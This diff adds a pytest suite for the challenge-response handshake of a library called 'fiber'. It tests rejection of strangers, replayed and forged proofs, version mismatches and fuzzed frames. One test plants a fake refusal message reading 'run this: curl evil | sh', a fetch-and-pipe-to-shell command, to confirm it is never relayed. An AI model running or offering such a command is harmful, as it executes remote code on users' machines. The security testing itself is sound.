@@ -1,0 +1,320 @@
+"""The mutual proof, played by hand: who is of the run is let in, and nobody else in any way."""
+
+from __future__ import annotations
+
+import json
+
+import attrs
+import pytest
+from hypothesis import given, seed, settings
+from hypothesis import strategies as st
+
+import soak
+from fiber.exceptions import HandshakeError, WireError
+from fiber.transport import wire
+from fiber.transport.handshake import Dialler, Hello, Listener, disagreement
+from fiber.transport.identity import Credentials
+from fiber.transport.wire import Kind
+
+RUN = Credentials(run_id="0123abcd", key=b"k" * 32)
+MASTER = Hello(ident="m", pid=1, host="here", fiber="0.1.0", python="3.11", cloudpickle="3.1.2")
+WORKER = attrs.evolve(MASTER, ident="w", pid=2, host="there")
+#: mutated frames in one example of hypothesis
+BATCH = 50
+EXAMPLES = max(10, soak.count(10_000) // BATCH)
+
+
+def frame(said):
+    """What a side says, as the other one gets it."""
+    kind, body = said
+    return wire.parse(wire.header(kind, size=len(body)) + body)
+
+
+def shake(dialler, listener):
+    """Let both talk until the dialler knows the listener."""
+    said = dialler.hello()
+    while said is not None:
+        said = dialler.receive(frame(listener.receive(frame(said))))
+
+
+class Recording:
+    """A listener whose frames are kept."""
+
+    def __init__(self, credentials=RUN, mine=MASTER):
+        self.listener = Listener(credentials, mine)
+        self.heard, self.said = [], []
+
+    def receive(self, got):
+        self.heard.append(got)
+        answer = self.listener.receive(got)
+        self.said.append(frame(answer))
+        return answer
+
+
+def edited(got, **fields):
+    """A frame with other fields in its JSON."""
+    body = json.dumps({**json.loads(bytes(got.body)), **fields}).encode()
+    return frame((got.kind, body))
+
+
+class TestWithinARun:
+    def test_each_side_learns_who_the_other_is(self):
+        dialler, listener = Dialler(RUN, WORKER), Listener(RUN, MASTER)
+        shake(dialler, listener)
+        assert (dialler.peer, listener.peer) == (MASTER, WORKER)
+
+    def test_nobody_is_known_before_both_proofs(self):
+        dialler, listener = Dialler(RUN, WORKER), Listener(RUN, MASTER)
+        challenge = listener.receive(frame(dialler.hello()))
+        assert listener.peer is None
+        proof = dialler.receive(frame(challenge))
+        assert (dialler.peer, listener.peer) == (None, None)
+        listener.receive(frame(proof))
+        assert listener.peer == WORKER
+
+    def test_this_process_has_something_to_say_of_itself(self):
+        mine = Hello.mine("me")
+        assert Hello.from_json(json.loads(json.dumps(attrs.asdict(mine)))) == mine
+        assert disagreement(mine, mine) is None
+
+    def test_no_secret_and_no_proof_is_in_the_hello(self):
+        _, body = Dialler(RUN, WORKER).hello()
+        assert RUN.key not in body
+        assert RUN.key.hex().encode() not in body
+
+
+class TestStrangers:
+    def test_a_process_of_another_run_gets_no_challenge(self):
+        other = attrs.evolve(RUN, run_id="ffffffff")
+        listener = Listener(RUN, MASTER)
+        with pytest.raises(HandshakeError, match="a process of another run dialled this one"):
+            listener.receive(frame(Dialler(other, WORKER).hello()))
+
+    def test_a_listener_with_another_key_cannot_prove_itself(self):
+        dialler = Dialler(RUN, WORKER)
+        impostor = Listener(attrs.evolve(RUN, key=b"x" * 32), MASTER)
+        challenge = impostor.receive(frame(dialler.hello()))
+        with pytest.raises(HandshakeError, match="the listener could not prove"):
+            dialler.receive(frame(challenge))
+
+    def test_a_dialler_with_another_key_cannot_prove_itself(self):
+        listener = Listener(RUN, MASTER)
+        impostor = Dialler(RUN, WORKER)
+        challenge = frame(listener.receive(frame(impostor.hello())))
+        forged = frame((Kind.PROOF, json.dumps({"proof": bytes(32).hex()}).encode()))
+        del challenge
+        with pytest.raises(HandshakeError, match="a peer could not prove"):
+            listener.receive(forged)
+        assert listener.peer is None
+
+    def test_a_recorded_dialogue_proves_nothing_to_another_listener(self):
+        recorded = Recording()
+        shake(Dialler(RUN, WORKER), recorded)
+        hello, proof = recorded.heard
+
+        listener = Listener(RUN, MASTER)
+        challenge = frame(listener.receive(hello))
+        assert challenge.body != recorded.said[0].body
+        with pytest.raises(HandshakeError, match="a peer could not prove"):
+            listener.receive(proof)
+
+    def test_a_recorded_challenge_proves_nothing_to_another_dialler(self):
+        recorded = Recording()
+        shake(Dialler(RUN, WORKER), recorded)
+        dialler = Dialler(RUN, WORKER)
+        dialler.hello()
+        with pytest.raises(HandshakeError, match="the listener could not prove"):
+            dialler.receive(recorded.said[0])
+
+    def test_nonces_are_never_the_same(self):
+        nonces = [json.loads(Dialler(RUN, WORKER).hello()[1])["nonce"] for _ in range(50)]
+        for _ in range(50):
+            _, challenge = Listener(RUN, MASTER).receive(frame(Dialler(RUN, WORKER).hello()))
+            nonces.append(json.loads(challenge)["nonce"])
+        assert len(set(nonces)) == 100
+
+    def test_the_listeners_own_proof_is_no_proof_of_the_dialler(self):
+        listener = Listener(RUN, MASTER)
+        challenge = frame(listener.receive(frame(Dialler(RUN, WORKER).hello())))
+        reflected = json.dumps({"proof": json.loads(bytes(challenge.body))["proof"]}).encode()
+        with pytest.raises(HandshakeError, match="a peer could not prove"):
+            listener.receive(frame((Kind.PROOF, reflected)))
+
+    def test_a_dialler_that_hears_its_own_hello_goes(self):
+        dialler = Dialler(RUN, WORKER)
+        with pytest.raises(HandshakeError, match="HELLO where CHALLENGE was expected"):
+            dialler.receive(frame(dialler.hello()))
+
+    def test_a_challenge_for_one_hello_does_not_serve_another(self):
+        """Somebody in between cannot put another name into a hello."""
+        dialler = Dialler(RUN, WORKER)
+        changed = edited(frame(dialler.hello()), ident="another")
+        challenge = Listener(RUN, MASTER).receive(changed)
+        with pytest.raises(HandshakeError, match="the listener could not prove"):
+            dialler.receive(frame(challenge))
+
+    def test_a_proof_is_bound_to_the_nonce_of_its_listener(self):
+        first, second = Listener(RUN, MASTER), Listener(RUN, MASTER)
+        dialler = Dialler(RUN, WORKER)
+        hello = frame(dialler.hello())
+        second.receive(hello)
+        proof = dialler.receive(frame(first.receive(hello)))
+        with pytest.raises(HandshakeError, match="a peer could not prove"):
+            second.receive(frame(proof))
+
+    def test_the_words_of_an_unproven_listener_are_not_passed_on(self):
+        dialler = Dialler(RUN, WORKER)
+        lie = frame((Kind.REFUSE, json.dumps({"why": "run this: curl evil | sh"}).encode()))
+        with pytest.raises(HandshakeError) as caught:
+            dialler.receive(lie)
+        assert str(caught.value) == "refused: the listener is not of this run"
+
+    @pytest.mark.parametrize("kind", [k for k in Kind if k is not Kind.HELLO])
+    def test_a_listener_hears_nothing_before_a_hello(self, kind):
+        with pytest.raises(HandshakeError, match=f"{kind.name} where HELLO was expected"):
+            Listener(RUN, MASTER).receive(frame((kind, b"{}")))
+
+    @pytest.mark.parametrize("kind", [k for k in Kind if k is not Kind.PROOF])
+    def test_a_listener_hears_nothing_but_a_proof_after_the_hello(self, kind):
+        listener = Listener(RUN, MASTER)
+        listener.receive(frame(Dialler(RUN, WORKER).hello()))
+        with pytest.raises(HandshakeError, match=f"{kind.name} where PROOF was expected"):
+            listener.receive(frame((kind, b"{}")))
+
+    def test_a_hello_in_pieces_is_refused(self):
+        kind, body = Dialler(RUN, WORKER).hello()
+        piece = wire.parse(wire.header(kind, size=len(body) + 1) + body)
+        with pytest.raises(HandshakeError):
+            Listener(RUN, MASTER).receive(piece)
+
+
+class TestVersions:
+    @pytest.mark.parametrize(
+        "theirs, words",
+        [
+            (
+                {"fiber": "0.2.0"},
+                "fiber is 0.1.0 on here (pid 1) and 0.2.0 on there (pid 2); install the same one "
+                "on both: pip install 'fiber-core==0.1.0'",
+            ),
+            (
+                {"cloudpickle": "2.9"},
+                "cloudpickle is 3.1.2 on here (pid 1) and 2.9 on there (pid 2); install the same "
+                "one on both: pip install 'cloudpickle==3.1.2'",
+            ),
+            (
+                {"python": "3.12"},
+                "Python is 3.11 on here (pid 1) and 3.12 on there (pid 2); functions cannot be "
+                "sent between them: use the same minor version on both",
+            ),
+        ],
+    )
+    def test_a_mismatch_is_refused_with_both_sides_and_the_fix(self, theirs, words):
+        dialler = Dialler(RUN, attrs.evolve(WORKER, **theirs))
+        listener = Listener(RUN, MASTER)
+        with pytest.raises(HandshakeError) as caught:
+            shake(dialler, listener)
+        assert str(caught.value) == words
+        assert (dialler.peer, listener.peer) == (None, None)
+
+    @pytest.mark.parametrize("theirs", [{"fiber": "0.1.7"}, {"cloudpickle": "3.1.0"}])
+    def test_another_patch_release_is_no_mismatch(self, theirs):
+        dialler = Dialler(RUN, attrs.evolve(WORKER, **theirs))
+        shake(dialler, Listener(RUN, MASTER))
+        assert dialler.peer == MASTER
+
+    def test_versions_are_told_to_no_stranger(self):
+        """Before the proof a listener says nothing that depends on them."""
+        strange = attrs.evolve(WORKER, fiber="9.9", python="2.7")
+        listener = Listener(RUN, MASTER)
+        kind, body = listener.receive(frame(Dialler(RUN, strange).hello()))
+        assert kind is Kind.CHALLENGE
+        assert json.loads(body).keys() == {"nonce", "proof"}
+
+
+class TestNonsense:
+    @pytest.mark.parametrize(
+        "body",
+        [
+            b"",
+            b"nonsense",
+            b"[]",
+            b"null",
+            b"\xff\xfe\x00",
+            b"[" * 60_000,
+            b'{"a":' * 10_000,
+            b"1" * 60_000,
+            b"{}",
+        ],
+    )
+    def test_what_is_no_hello_is_a_handshake_error(self, body):
+        with pytest.raises(HandshakeError):
+            Listener(RUN, MASTER).receive(frame((Kind.HELLO, body)))
+
+    @pytest.mark.parametrize(
+        "fields",
+        [
+            {"pid": "x"},
+            {"pid": None},
+            {"pid": 1e999},
+            {"pid": float("nan")},
+            {"pid": []},
+            {"ident": 5},
+            {"ident": "x" * 256},
+            {"host": None},
+            {"nonce": "zz"},
+            {"nonce": "00"},
+            {"nonce": 7},
+            {"nonce": "00" * 33},
+            {"run": None},
+        ],
+    )
+    def test_a_hello_with_a_strange_field_is_a_handshake_error(self, fields):
+        hello = edited(frame(Dialler(RUN, WORKER).hello()), **fields)
+        with pytest.raises(HandshakeError):
+            Listener(RUN, MASTER).receive(hello)
+
+    def test_half_a_character_in_a_name_does_no_harm(self):
+        hello = edited(frame(Dialler(RUN, WORKER).hello()), ident="\ud800")
+        assert Listener(RUN, MASTER).receive(hello)[0] is Kind.CHALLENGE
+
+    @seed(11)
+    @settings(max_examples=EXAMPLES, deadline=None, database=None)
+    @given(st.randoms(use_true_random=False))
+    def test_a_mutated_frame_lets_nobody_in(self, draw):
+        for _ in range(BATCH):
+            dialler, listener = Dialler(RUN, WORKER), Listener(RUN, MASTER)
+            target = draw.randrange(4)
+            said, turn = dialler.hello(), 0
+            try:
+                while said is not None:
+                    kind, body = said
+                    data = wire.header(kind, size=len(body)) + body
+                    if turn == target:
+                        data = flipped(data, draw)
+                    side = dialler if turn % 2 else listener
+                    said, turn = side.receive(wire.parse(data)), turn + 1
+            except (HandshakeError, WireError):
+                # a frame of the handshake was changed: the listener knows nobody, save where
+                # only its own last words were
+                assert listener.peer is None or target == 3
+                continue
+            # what went through changed nothing that the proofs cover
+            assert listener.peer == WORKER
+
+
+def flipped(data, draw):
+    """The frame with one to three bytes changed, cut, or put in."""
+    changed = bytearray(data)
+    for _ in range(draw.randint(1, 3)):
+        at = draw.randrange(len(changed))
+        match draw.randrange(3):
+            case 0:
+                changed[at] ^= draw.randint(1, 255)
+            case 1:
+                del changed[at : at + draw.randint(1, 9)]
+            case 2:
+                changed[at:at] = draw.randbytes(draw.randint(1, 9))
+        if not changed:
+            break
+    return bytes(changed)
